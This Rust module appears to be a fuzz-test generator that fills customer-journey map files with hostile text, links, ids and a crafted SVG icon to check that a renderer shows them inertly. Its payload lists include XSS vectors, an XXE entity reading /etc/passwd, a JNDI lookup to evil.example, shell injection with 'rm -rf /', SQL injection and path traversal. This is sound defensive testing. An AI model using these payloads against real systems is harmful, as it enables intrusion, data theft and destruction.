//! Journeys that are valid and mean harm: every text, name and link may be something that has broken other programs, and
//! every key of the format turns up. Such a journey is drawn like any other.

use super::random::{self, Chance, maybe};
use std::path::Path;
use toml::{Table, Value};

/// Texts that have broken other programs. All of them are accepted, shown as they are, and do nothing.
pub const TEXTS: &[&str] = &[
    // markup
    "</text><script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "\" onload=\"alert(1)\" x=\"",
    "]]>",
    "<![CDATA[ x ]]>",
    "<!-- comment -->",
    "--><script>alert(1)</script><!--",
    "<?xml version=\"1.0\"?>",
    "<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
    "&x; &lt;b&gt; &#0; &#x202e; &amp;amp;",
    "&lol9;",
    "</title></desc></g></svg>",
    "</style><style>@import url(//evil.example)</style>",
    "<foreignObject><iframe src=\"javascript:alert(1)\"/></foreignObject>",
    "<a xlink:href=\"javascript:alert(1)\">x</a>",
    "<animate attributeName=href values=javascript:alert(1) />",
    "<script>", // unfinished
    "&",
    "<",
    ">",
    "\"",
    "'",
    "`",
    // what other programs run
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {% raw %}",
    "${jndi:ldap://evil.example/a}",
    "$(touch /tmp/x) `touch /tmp/x` ; rm -rf / | cat && true",
    "%s%s%s%n %x %d {} {0} {page}",
    "' OR 1=1; DROP TABLE stages; --",
    "../../../../etc/passwd",
    "C:\\Windows\\System32\\con",
    "/dev/zero",
    "file:///etc/passwd",
    "url(https://evil.example/x.png)",
    "url(#x)",
    "expression(alert(1))",
    "@import 'x'; } * { display: none",
    "\\3c script\\3e ",
    "=cmd|' /C calc'!A0",
    "\\u0000 \\x00 \\n %00 %0d%0a",
    // words that are no words elsewhere
    "null",
    "undefined",
    "NaN",
    "-Infinity",
    "true",
    "None",
    "__proto__",
    "constructor",
    "toString",
    "id",
    "title",
    "0",
    "-1",
    "1e400",
    "0x1F",
    "00000000000000000000000000000000000001",
    "99999999999999999999999999999999999999999999999999",
    // white space of all kinds; tabs and line breaks count as spaces or breaks
    "a\tb\r\nc\rd\n\n\n\ne",
    "wide\u{3000}thin\u{2009}narrow\u{202f}fixed\u{a0}figure\u{2007}ogham\u{1680}line\u{2028}paragraph\u{2029}end",
    // what cannot be seen
    "zero\u{200b}width\u{200c}non\u{200d}joiner\u{2060}word\u{feff}mark",
    "soft\u{ad}hyphen\u{ad}ation",
    "\u{feff}text",
    "mongolian\u{180e}vowel",
    "tag\u{e0001}\u{e0041}\u{e007f}s",
    "select\u{fe0f}or\u{fe00}s\u{e0100}",
    "fill\u{3164}er\u{115f}\u{1160}\u{ffa0}",
    "object\u{fffc}\u{fffd}",
    // directions
    "\u{200e}left\u{200f}right\u{61c}letter",
    "\u{2067}isolated\u{2069} \u{2066}left\u{2069} \u{2068}first strong\u{2069}",
    "\u{2067}never closed",
    "\u{2066}\u{2067}\u{2068}three deep",
    "closed\u{2069} before it was opened\u{202c}",
    "\u{202b}embedded\u{202c} and \u{202a}embedded",
    "\u{2067}crossed \u{202b}over\u{2069} here\u{202c}",
    "English עברית English العربية 123 (עברית) [abc] 50%",
    "(אבג",
    // marks and joined letters
    "Z\u{0351}\u{036b}\u{0343}\u{033a}\u{0316}a\u{0300}\u{0301}\u{0302}l\u{0323}\u{0324}go",
    "\u{0301}\u{0301}mark first",
    "e\u{301} \u{e9} ﬁ ﬄ ℡ ½ Ⅻ ﷺ",
    "👩‍👩‍👧‍👦 🏳️‍🌈 🇩🇪🇩 🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f} 👍🏿 1️⃣",
    "👨\u{200d}\u{200d}👩 \u{fe0f}\u{20e3}",
    "नमस्ते ক্ষ ක්‍ෂ ကြိုဆို ข้ามไป ខ្មែរ",
    "각 ᄀ\u{1161}\u{11a8} ㉠",
    // beyond the first plane
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𐍈 𠜎𠜱 𒀀 🀄 𝟘𝟙𝟚",
    "\u{10fffd}\u{f0000} \u{e000}private",
    "ß ẞ İ ı ŉ ǰ ΐ Σς",
    // looks like something else
    "＜script＞alert（1）＜／script＞",
    "ｊａｖａｓｃｒｉｐｔ：ａｌｅｒｔ",
    "аррle.com раураl",
    "…‥—–‐‑−",
];

/// Words without a place to break.
fn long_word(c: &mut Chance) -> String {
    let part = c.pick(&["W", "i", "ab", "文", "ש", "م", "👍", "e\u{301}", "-", ".", "&", "<", "0", "\u{200b}x", "के"]);
    part.repeat(c.between(20, 250))
}

/// Any characters that a journey may hold.
fn any_characters(c: &mut Chance) -> String {
    let one = |c: &mut Chance| {
        let number = match c.between(0, 7) {
            0..=2 => c.between(0x20, 0x7E),
            3 => c.between(0xA0, 0x52F),
            4 => c.between(0x590, 0x1FFF),
            5 => c.between(0x2000, 0x2FFF),
            6 => c.between(0x3000, 0xFFFF),
            _ => c.between(0x1_0000, 0xE_01FF),
        };
        u32::try_from(number).ok().and_then(char::from_u32).filter(|c| is_accepted(*c)).unwrap_or(' ')
    };
    let most = c.pick(&[3, 12, 40]);
    (0..c.between(1, most)).map(|_| one(c)).collect()
}

/// What a journey file may hold in its texts.
fn is_accepted(c: char) -> bool {
    let number = u32::from(c);
    let control = c.is_control() && !matches!(c, '\n' | '\r' | '\t');
    let none = number & 0xFFFE == 0xFFFE || (0xFDD0..=0xFDEF).contains(&number);
    !control && !none && !matches!(c, '\u{202D}' | '\u{202E}' | '\u{FFF9}'..='\u{FFFB}')
}

/// One text that means harm, or several words of which one does.
pub fn text(c: &mut Chance) -> String {
    let text = match c.between(0, 9) {
        0 => long_word(c),
        1 | 2 => any_characters(c),
        _ => c.pick(TEXTS).to_owned(),
    };
    let text = if c.once_in(4) { format!("Then {text} and more words that follow it") } else { text };
    // a text must not be empty, nor may there be nothing to see of it
    if text.chars().all(is_invisible) { format!("x{text}") } else { text }
}

fn is_invisible(c: char) -> bool {
    c.is_whitespace()
        || matches!(c, '\u{AD}' | '\u{61C}' | '\u{180E}' | '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}'
            | '\u{2060}'..='\u{206F}' | '\u{FEFF}' | '\u{E0000}'..='\u{E007F}')
}

/// Ids that programs trip over; no two alike.
const IDS: &[&str] = &[
    "__proto__",
    "constructor",
    "id",
    "prototype",
    "hasOwnProperty",
    "<script>",
    "a b c",
    "\"quoted\"",
    "'",
    "a.b.c",
    "#",
    "url(#x)",
    "../..",
    "0",
    "null",
    "é",
    "日本",
    "שלום",
    "\u{2067}open",
    "&amp;",
    "👩‍👩‍👧",
    "]]>",
];

/// Where clicks may lead.
pub const LINKS: &[&str] = &[
    "https://example.org/?a=1&b=<2>&c=\"3\"&d='4'",
    "HTTPS://EXAMPLE.org/%00%0d%0a",
    "http://user:password@example.org:8080/",
    "http://[::1]/",
    "https://пример.рф/путь",
    "mailto:a@example.org?subject=x&body=<script>",
    "tel:+49-1234;ext=5",
    "a/b.html",
    "../up",
    "#part",
    "#",
    "?q=javascript:alert(1)",
    "/x:javascript:y",
    "./javascript:alert(1)",
    "javascript",
    "%6aavascript",
];

/// Every colour of a persona, in the ways that CSS writes one.
const COLORS: &[&str] = &["#000", "#ffffff", "teal", "oklch(60% 0.2 280)", "rgb(1 2 3)", "hsl(120, 50%, 50%)"];

/// Files that stand in the journey's folder, put there by [`files`].
const IMAGES: &[&str] = &["files/pixel.png", "files/pixel.gif", "files/pixel.webp", "./files/../files/pixel.png"];
const ICONS: &[&str] = &["files/plain.svg", "files/hostile.svg", "heart", "Warenkorb"];

/// Puts the files into a folder that hostile journeys name.
pub fn files(folder: &Path) {
    let folder = folder.join("files");
    std::fs::create_dir_all(&folder).unwrap();
    let write = |name: &str, bytes: &[u8]| std::fs::write(folder.join(name), bytes).unwrap();
    write("pixel.png", PNG);
    write(
        "pixel.gif",
        b"GIF89a\x01\0\x01\0\x80\0\0\xff\xff\xff\0\0\0!\xf9\x04\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;",
    );
    write("pixel.webp", b"RIFF\x1a\0\0\0WEBPVP8L\x0d\0\0\0/\0\0\0\x10\x07\x10\x11\x11\x88\x88\xfe\x07\0");
    write("plain.svg", b"<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 24 24'><path d='M2 2h20v20H2z'/></svg>");
    write("hostile.svg", HOSTILE_ICON.as_bytes());
    write("own.toml", b"extends = \"dark\"\nname = \"</svg><script>\"\n");
}

/// One red pixel.
const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0\x90wS\xde\0\0\0\x0cIDATx\x9cc\xf8\xcf\xc0\0\0\x03\x01\x01\0\xc9\xfe\x92\xef\0\0\0\0IEND\xaeB`\x82";

/// An icon with as much besides its one square as is accepted; what is more is refused.
const HOSTILE_ICON: &str = r##"<?xml version="1.0"?><!-- --><?php echo 1 ?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24">
<title>&lt;/svg&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title><desc>root:x:0:0:</desc><metadata>javascript:alert(1)</metadata>
<g id="constructor" class="&quot;&gt;&lt;script&gt;"><path id="location" data-x="javascript:alert(1)" d="M4 4h16v16H4z" fill="red"/></g>
</svg>"##;

/// A whole hostile journey, whose files are those of [`files`].
pub fn journey(c: &mut Chance) -> Table {
    let mut journey = random::journey(c);
    let names = Names {
        personas: c.between(0, IDS.len() - 1),
        channels: c.between(0, IDS.len() - 1),
        lanes: c.between(0, IDS.len() - 1),
    };
    season_top(c, &mut journey);
    season(c, &names, "", &mut journey);
    journey
}

/// Where the list of ids begins for each kind.
struct Names {
    personas: usize,
    channels: usize,
    lanes: usize,
}

/// `p0` becomes the first of the ids for personas, and so on.
fn renamed(plain: &str, from: usize) -> String {
    let index: usize = plain.get(1..).and_then(|digits| digits.parse().ok()).unwrap_or(0);
    IDS[(from + index) % IDS.len()].to_owned()
}

const SHOWN: &[&str] = &[
    "title",
    "subtitle",
    "name",
    "role",
    "quote",
    "phase",
    "goals",
    "actions",
    "thoughts",
    "pains",
    "opportunities",
    "label",
    "feeling",
    "pain",
    "opportunity",
    "duration",
    "unit",
    "version",
];

/// Keys that only the whole file has.
fn season_top(c: &mut Chance, top: &mut Table) {
    let day = |text: &str| Value::Datetime(text.parse().unwrap());
    maybe(c, 3, top, "theme", |c| c.pick(&["dark", "print", "contrast", "colour-blind", "editorial", "files/own.toml"]).into());
    maybe(c, 4, top, "review", |c| {
        let mut review = Table::from_iter([("version".to_owned(), Value::from(text(c)))]);
        review.insert("reviewed".into(), day(c.pick(&["2026-11-02", "0000-01-01", "9998-12-31", "2024-02-29"])));
        if c.once_in(2) {
            review.insert("next".into(), day("0001-01-01"));
        } else {
            review.insert("every".into(), c.pick(&["3 months", "1 year", "2 weeks", "1 day"]).into());
        }
        maybe(c, 2, &mut review, "owner", |c| text(c).into());
        maybe(c, 2, &mut review, "notes", |c| {
            let note = |c: &mut Chance| {
                Table::from_iter([("date".to_owned(), day("2026-11-02")), ("text".to_owned(), Value::from(text(c)))]).into()
            };
            (0..c.between(1, 4)).map(|_| note(c)).collect::<Vec<Value>>().into()
        });
        review.into()
    });
    if c.once_in(3) {
        let size = match c.between(0, 3) {
            0 => Value::Array(vec![(c.between(1, 160) as i64 * 100).into(), (c.between(1, 160) as i64 * 100).into()]),
            1 => "a3-portrait".into(),
            2 => "100x100".into(),
            _ => "16:9".into(),
        };
        let mut page = Table::from_iter([("size".to_owned(), size)]);
        maybe(c, 2, &mut page, "min_text", |c| c.pick(&[0.01, 1.0, 8.0, 20.0, 72.0]).into());
        top.insert("page".into(), page.into());
    }
}

/// Replaces texts and names wherever they stand in a table of a kind, and adds keys that plain journeys lack.
fn season(c: &mut Chance, names: &Names, kind: &str, table: &mut Table) {
    add(c, kind, table);
    for (key, value) in table.iter_mut() {
        match (key.as_str(), value) {
            ("persona" | "channel" | "lane" | "stage" | "touchpoint" | "metrics", Value::Array(list)) => {
                for (index, item) in list.iter_mut().enumerate() {
                    let Some(item) = item.as_table_mut() else { continue };
                    let from = match key.as_str() {
                        "persona" => Some(names.personas),
                        "channel" => Some(names.channels),
                        "lane" => Some(names.lanes),
                        _ => None,
                    };
                    if let Some(from) = from {
                        item.insert("id".into(), renamed(&format!("x{index}"), from).into());
                    }
                    season(c, names, key, item);
                }
            }
            ("personas", Value::Array(list)) => rename_all(list, names.personas),
            ("emotion" | "expected", Value::Table(each)) => rename_keys(each, names.personas),
            ("channel", Value::String(id)) => *id = renamed(id, names.channels),
            ("lanes", Value::Array(list)) => {
                let own = list
                    .iter_mut()
                    .filter(|name| name.as_str().is_some_and(|name| matches!(name.as_bytes(), [b'l', b'0'..=b'9'])));
                own.for_each(|name| *name = renamed(name.as_str().unwrap_or_default(), names.lanes).into());
            }
            ("extra", Value::Table(cells)) => {
                rename_keys(cells, names.lanes);
                cells.iter_mut().for_each(|(_, value)| replace(c, value));
            }
            (key, value) if SHOWN.contains(&key) => replace(c, value),
            _ => {}
        }
    }
}

fn rename_all(list: &mut [Value], from: usize) {
    for name in list {
        *name = renamed(name.as_str().unwrap_or_default(), from).into();
    }
}

fn rename_keys(table: &mut Table, from: usize) {
    *table = std::mem::take(table).into_iter().map(|(key, value)| (renamed(&key, from), value)).collect();
}

fn replace(c: &mut Chance, value: &mut Value) {
    match value {
        Value::Array(list) => list.iter_mut().for_each(|item| replace(c, item)),
        Value::String(plain) if c.once_in(2) => *plain = text(c),
        _ => {}
    }
}

/// Keys by the kind of table.
fn add(c: &mut Chance, kind: &str, table: &mut Table) {
    match kind {
        "touchpoint" => {
            maybe(c, 3, table, "link", |c| c.pick(LINKS).into());
            maybe(c, 4, table, "icon", |c| c.pick(ICONS).into());
            maybe(c, 6, table, "control", |_| "direct".into());
        }
        "persona" => {
            maybe(c, 3, table, "icon", |c| c.pick(ICONS).into());
            maybe(c, 3, table, "image", |c| c.pick(IMAGES).into());
            maybe(c, 3, table, "color", |c| c.pick(COLORS).into());
        }
        "channel" | "lane" => maybe(c, 3, table, "icon", |c| c.pick(ICONS).into()),
        "stage" => maybe(c, 5, table, "image", |c| c.pick(IMAGES).into()),
        "metrics" => {
            maybe(c, 3, table, "value", |c| c.pick(&[0.0, -0.0, -1.5, 1e-9, 123_456_789.123, 1e15]).into());
            maybe(c, 3, table, "target", |c| c.pick(&[0.0, -3.0, 1e-9, 1e12]).into());
        }
        _ => {}
    }
}
